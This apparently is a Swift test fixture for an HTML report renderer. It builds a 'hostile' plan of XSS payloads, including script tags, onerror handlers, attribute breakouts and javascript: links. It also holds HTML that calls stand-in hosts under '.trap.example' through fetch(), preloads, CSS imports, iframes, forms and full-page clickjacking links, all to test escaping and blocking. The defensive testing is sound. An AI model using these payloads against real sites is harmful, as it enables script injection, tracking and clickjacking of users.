import Planner
@testable import Report
import Resources

@testable import inx_apply

/// A plan in which whatever strangers write tries to run, to call out or to break out.
enum HostilePlan {
  /// Below it are all hosts that anything in the plan calls.
  static let domain = ".trap.example"

  /// Names that would be markup, attributes or scripts where they are not escaped.
  static let names = [
    #"<script>pwned = "script"</script>"#,
    #"<img src=x onerror="pwned = 'onerror'">"#,
    #"" onmouseover="pwned = 'attribute'" autofocus onfocus="pwned = 'focus'"#,
    "' onclick='pwned = 1'",
    "</script><script>pwned = 'end'</script>",
    "</style><style>*{display:none}",
    "</iframe></title></textarea><!--",
    "javascript:pwned='link'",
    "\u{202E}turned\u{2066} round\u{0}\u{1B}[2J\n<li>",
    "`${pwned = 1}` {{pwned}} &lt;b&gt; &amp;",
    String(repeating: "unbroken", count: 40),
    "שלום",
  ]

  /// HTML that asks hosts in every way that HTML has.
  static let html: String = {
    var number = 0
    func url(_ scheme: String = "http") -> String {
      number += 1
      return "\(scheme)://h\(number)\(domain)/"
    }
    let tags = [
      "<!DOCTYPE html><html manifest=\(url())><head>",
      "<meta http-equiv=x-dns-prefetch-control content=on>",
      "<META HTTP-EQUIV=refresh content='0;url=\(url())'>",
      "<base href=\(url()) target=_top>",
      "<link rel=preconnect href=\(url())>", "<LINK\nrel=preconnect href=\(url("https"))>",
      "<link/rel=dns-prefetch href=\(url())>", "<link rel=prefetch href=\(url())>",
      "<link rel=preload as=image href=\(url())>", "<link rel=stylesheet href=\(url())>",
      "<link rel=icon href=\(url())>", "<link rel=modulepreload href=\(url())>",
      "<style>@import '\(url())'; @font-face { font-family: f; src: url(\(url())) } body { font-family: f;",
      "background: url(\(url())) }</style>",
      "<script src=\(url())></script><script>pwned = 1; parent.pwned = 1; fetch('\(url())')</script>",
      "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"\(url())\"]}]}</script>",
      "</head><body background=\(url()) onload=\"fetch('\(url())')\">",
      "<img src=\(url())><img src=x onerror=\"fetch('\(url())')\"><img srcset='\(url()) 2x' attributionsrc=\(url())>",
      "<picture><source srcset=\(url())><img></picture><video poster=\(url()) src=\(url()) autoplay></video>",
      "<audio src=\(url()) autoplay></audio><track src=\(url())><embed src=\(url())><object data=\(url())></object>",
      "<iframe src=\(url())></iframe>",
      "<iframe srcdoc=\"&lt;link rel=preconnect href=\(url())&gt;&lt;link rel=dns-prefetch href=\(url())&gt;\"></iframe>",
      "<iframe =\"&lt;link rel=preconnect href=\(url())&gt;\"></iframe><a =\(url()) href=\(url())>go</a>",
      "<frame src=\(url())><portal src=\(url())></portal><fencedframe src=\(url())></fencedframe>",
      "<svg><image href=\(url()) /><use href='\(url())#a' /><script href=\(url())></script></svg>",
      "<input type=image src=\(url())><table background=\(url())><tr><td background=\(url())></td></tr></table>",
      "<form id=f action=\(url()) target=_top><input name=a autofocus></form>",
      "</iframe></script><script>top.pwned = 1</script>",
      "<p title='<a <link rel=preconnect href=\(url())>'>text</p>",
      // Whoever clicks anywhere clicks on this.
      "<a style='position:fixed;inset:0;z-index:9' href=\(url()) ping=\(url()) target=_self>go</a>",
    ]
    return tags.joined(separator: "\n")
  }()

  /// The same, with a link in which only a script would run, and one that leaves for the top.
  static let links = [
    "<a style='position:fixed;inset:0' href=\"javascript:fetch('http://j1.trap.example/');top.pwned=1\">go</a>",
    "<a style='position:fixed;inset:0' target=_top href=http://j2.trap.example/>go</a>",
    "<svg style='position:fixed;inset:0'><a xlink:href=http://j6.trap.example/ href=http://j3.trap.example/><rect width=2000 height=2000 /></a></svg>",
    "<form action=http://j4.trap.example/><button style='position:fixed;inset:0'>go</button></form>",
    "<a style='position:fixed;inset:0' download href=http://j5.trap.example/>go</a>",
  ]

  /// An update with both forms for each name, and modules whose HTML calls out.
  static var plan: Plan {
    let named = names.enumerated().map { index, name in
      ReportSample.change(
        .update,
        .list,
        name,
        at: ReportSample.mark(2, file: 1),
        id: index,
        reason: "formerly \(name)",
        warnings: [name],
        fields: [
          ReportSample.field("name", .text(name), .text(name + "!")),
          ReportSample.field(
            "description",
            .text("first\n\(name)\nlast\n"),
            .text("first\n\(name) more\nlast\n")
          ),
          ReportSample.field("senderName", .null, .text("\(name)\n\(name)")),
        ]
      )
    }
    let modules = ([html] + links).enumerated().map { index, html in
      ReportSample.change(
        .update,
        .textModule,
        "module \(index)",
        id: 100 + index,
        fields: [ReportSample.field("html", .text(html), .text(html + "<p>more</p>"))]
      )
    }
    let entries = names.map { name in
      GuardEntry(guardName: name, addresses: [ReportSample.list(name)], message: name, override: name)
    }
    return ReportSample.plan(
      named + modules,
      blocked: entries,
      allowed: entries,
      diagnostics: names.map { .warning($0, at: ReportSample.mark(1, file: 1)) }
    )
  }

  /// The page, from a tenant of such a name.
  static var page: String {
    PlanHTML(tenant: "sandbox:\(names.joined())", sources: ReportSample.sources).text(plan)
  }
}
